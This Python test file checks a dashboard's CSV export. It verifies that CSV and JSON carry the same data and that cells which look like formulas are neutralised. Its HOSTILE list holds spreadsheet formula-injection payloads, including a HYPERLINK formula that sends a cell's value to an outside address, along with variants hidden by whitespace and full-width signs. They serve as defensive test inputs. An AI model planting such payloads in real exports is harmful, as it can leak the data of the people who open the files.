"""Answers as CSV say what those in JSON say, in a layout that is known beforehand."""

import csv
import json
import re
from collections.abc import Iterable
from datetime import UTC, datetime
from decimal import Decimal
from io import StringIO
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboard.csv_export import cell
from dashboard.reports import REGISTRY
from segments.models import Segment
from summaries.materialising import materialise
from tests.support.bundles import Bundle, bundles
from tests.support.dice import Dice
from tests.support.loading import empty_database, load
from tests.support.questions import one_of_each
from tests.support.shop import ADDRESS, Shop
from tests.test_contract import STILL, accepted, each_type, needed

# The columns of types whose data are more than a list of plain objects.
SCORES = ["count", "mean", "bins.binStart", "bins.binEnd", "bins.count"]
NESTED: dict[tuple[str, str | None], list[str]] = {
    ("model_metrics_trend", None): [
        "modelId",
        "modelName",
        "modelType",
        "section",
        "trend.recordedAt",
        "trend.auc",
        "featureImportance.feature",
        "featureImportance.importance",
    ],
    ("score_distribution", None): ["binStart", "binEnd", "count"],
    ("score_distribution", "channel"): ["channelId", "channelName", *SCORES],
    ("score_distribution", "offer"): ["offerId", "offerName", *SCORES],
    ("score_distribution", "category"): ["categoryId", "categoryName", *SCORES],
    ("degraded_scoring", None): [
        "degradedCount",
        "totalCount",
        "degradedRate",
        "byReason.reason",
        "byReason.count",
    ],
    ("selection_frequency", None): [
        "offerId",
        "offerName",
        "mandatory",
        "eligible",
        "scored",
        "selected",
        *("selectionRate", "averageRank", *(f"rank{rank}" for rank in range(1, 11))),
    ],
    ("why_not_ranked", None): [
        "offerId",
        "offerName",
        "considered",
        "selected",
        "missed",
        "missRate",
        "section",
        "reasons.stage",
        "reasons.id",
        "reasons.name",
        "reasons.count",
        "beatenBy.offerId",
        "beatenBy.offerName",
        "beatenBy.count",
    ],
}
SIGNS = "=+@\uff1d\uff0b\uff0d\uff20-"  # the last one, lest it mean a range
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "'=1",
    "\uff1d1",
    "plain;=1+1",
    'plain;"=1+1"&"',
    "plain\t=1",
    "plain\n-1",
    "\t",
]
HARMLESS = ["", "Winter boots, 20 % off", "a-b", 'The "best" 1 + 1', "'n Sync", "5", "a, =b", "ü😀"]


def read(response: Any) -> tuple[list[str], list[dict[str, str]]]:
    """The columns and the lines of a response, read as strictly as can be."""
    assert response.status_code == 200, response.content
    assert response["content-type"] == "text/csv; charset=utf-8; header=present"
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    header, *rows = csv.reader(StringIO(text, newline=""), strict=True)
    assert {len(row) for row in rows} <= {len(header)}
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def original(text: str) -> str:
    """The text of a cell without the apostrophes that keep it from being a formula."""
    skipped = r"(?:[^\S\t\r\n]|['\"])*"
    return re.sub(rf"(^|[;\t\r\n])'(?={skipped}[{SIGNS}])|^'(?={skipped}[\t\r\n])", r"\1", text)


def objects(lines: Iterable[dict[str, str]]) -> list[dict[str, Any]]:
    """The objects that lines tell of: fields, and lists of fields or numbers."""
    found: list[dict[str, Any]] = []
    for line in lines:
        own = {name: text for name, text in line.items() if "." not in name}
        section = own.pop("section", None)
        ranks = [own.pop(name) for name in list(own) if re.fullmatch(r"rank\d+", name)]
        if ranks:
            own["rankDistribution"] = ranks  # type: ignore[assignment]  # the only one that is a list
        lists: dict[str, dict[str, str]] = {}
        for name, text in line.items():
            if "." in name:
                around, _, field = name.partition(".")
                lists.setdefault(around, {})[field] = text
        if not found or {name: found[-1][name] for name in own} != own:
            found.append({**own, **{name: [] for name in lists}})
        for name, entry in lists.items():
            if (section is None and any(entry.values())) or section == name:
                found[-1][name].append(entry)
            else:
                assert not any(entry.values())
    return found


def assert_says(found: Any, expected: Any) -> None:
    """What was read from cells is what JSON says."""
    if isinstance(expected, dict):
        assert list(found) == list(expected)
        for name, value in expected.items():
            assert_says(found[name], value)
    elif isinstance(expected, list):
        assert len(found) == len(expected)
        for inner, value in zip(found, expected, strict=True):
            assert_says(inner, value)
    elif isinstance(expected, bool):
        assert found == ("true" if expected else "false")
    elif isinstance(expected, Decimal | int):
        assert Decimal(found) == expected
    else:
        assert original(found) == (expected or "")
        assert found == "" or found[0] not in SIGNS + "\t\r\n"


def assert_same_answer(as_json: Any, as_csv: Any) -> list[dict[str, Any]]:
    """The two responses have the same data."""
    data = json.loads(as_json.content, parse_float=Decimal)["data"]
    expected = data if isinstance(data, list) else [data]
    assert_says(objects(read(as_csv)[1]), expected)
    return expected


def asked(kind: str) -> list[dict[str, str]]:
    """Questions of a type, by each of its groupings."""
    plain = needed(kind) | {"days": "30"} | STILL.get(kind, {})
    return [plain, *(plain | {"groupBy": grouping} for grouping in [*REGISTRY[kind].groups])]


@each_type
def test_csv_says_what_json_says(kind: str, shop: Shop) -> None:
    for parameters in asked(kind):
        found = assert_same_answer(shop.get(parameters), shop.get(parameters | {"format": "csv"}))
        assert found


@each_type
def test_columns_are_known_from_the_type_whatever_the_data(kind: str, shop: Shop) -> None:
    for parameters in asked(kind):
        header, _ = read(shop.get(parameters | {"format": "csv"}))
        grouping = parameters.get("groupBy")
        [first, *_] = assert_same_answer(
            shop.get(parameters), shop.get(parameters | {"format": "csv"})
        )
        assert header == NESTED.get((kind, grouping), list(first))
        ids = [name for name in accepted(kind) if name.endswith("Id")]
        for name in ids:
            if name != "filterId" or grouping:
                nobody = parameters | {name: "nobody's", "format": "csv"}
                assert read(shop.get(nobody)) == (header, [])


def test_lists_are_laid_out_one_after_the_other(shop: Shop) -> None:
    response = shop.get({**needed("why_not_ranked"), "days": "30", "format": "csv"})
    assert response.content.decode("utf-8-sig").splitlines(keepends=True) == [
        f"{','.join(NESTED['why_not_ranked', None])}\r\n",
        "offer_scarf,Scarf,20,0,20,1.0,reasons,outranked,,,12,,,\r\n",
        "offer_scarf,Scarf,20,0,20,1.0,reasons,qualification,rule_age,Age,4,,,\r\n",
        "offer_scarf,Scarf,20,0,20,1.0,reasons,contact_policy,policy_cap,Cap,4,,,\r\n",
        "offer_scarf,Scarf,20,0,20,1.0,beatenBy,,,,,offer_boots,Boots,12\r\n",
    ]


@pytest.mark.django_db(transaction=True, databases=["default", "answers"])
@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_csv_says_what_json_says_of_random_bundles(
    data: st.DataObject, transactional_db: None
) -> None:
    empty_database()
    now = datetime.now(UTC)
    bundle: Bundle = data.draw(bundles(now, "UTC"))
    dice = Dice(str(data.draw(st.integers(0, 2**64 - 1))))
    for rows in bundle.values():
        for row in rows:
            if "name" in row:
                row["name"] = dice.choice([*HOSTILE, *HARMLESS])
    load(bundle)
    for segment in Segment.objects.all():
        materialise(segment.pk)
    client = Client()
    client.force_login(User.objects.get_or_create(username="someone", is_superuser=True)[0])
    for parameters in data.draw(one_of_each(bundle, REGISTRY)):
        # Revenue per elapsed day goes with the clock.
        still = STILL.get(parameters["type"], {})
        responses = [
            client.get(ADDRESS, parameters | still | {"format": name}) for name in ("json", "csv")
        ]
        assert_same_answer(*responses)


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_looks_like_a_formula_is_text(text: str) -> None:
    assert cell(text) != text
    assert original(cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", [-1, -0.5, Decimal("-250.75"), 0, 1e-9])
def test_numbers_stay_numbers(number: Any) -> None:
    assert cell(number) == number


@settings(max_examples=500, deadline=None)
@given(text=st.text(alphabet="=+-@\uff1d;,\t\r\n '\"a\u00a0", max_size=12))
def test_no_text_is_a_formula_whatever_separates_cells(text: str) -> None:
    written = StringIO(newline="")
    csv.writer(written).writerow(["id", cell(text), 1])
    for separator in ",;\t":
        lines = StringIO(written.getvalue(), newline="")
        for line in csv.reader(lines, delimiter=separator):
            assert not [found for found in line if re.match(rf"\s*[{SIGNS}]", found)]
    assert original(cell(text)) == text
